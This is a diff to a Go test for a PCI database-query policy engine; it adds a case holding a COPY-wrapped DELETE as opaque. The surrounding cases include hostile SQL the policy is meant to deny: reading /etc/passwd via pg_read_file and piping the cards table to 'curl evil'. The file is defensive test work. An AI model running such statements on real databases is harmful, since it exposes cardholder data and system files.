@@ -57,6 +57,7 @@ func TestPCIPolicyDecisions(t *testing.T) {
 		{"WITH d AS (UPDATE orders SET total = 0 RETURNING id) SELECT * FROM d", false, false, Hold, "hold-unbounded-write"},
 		{"EXPLAIN ANALYZE DELETE FROM orders", false, false, Hold, "hold-unbounded-write"},
 		{"DO $$ BEGIN NULL; END $$", false, false, Hold, "hold-opaque"},
+		{"COPY (DELETE FROM orders WHERE id = 1 RETURNING id) TO STDOUT", false, false, Hold, "hold-opaque"},
 		{"SELECT pan FROM cards", true, true, Hold, "hold-interactive-cardholder"},
 		{"SELECT pg_read_file('/etc/passwd')", false, false, Deny, "deny-external-access"},
 		{"COPY cards TO PROGRAM 'curl evil'", true, false, Deny, "deny-external-access"},
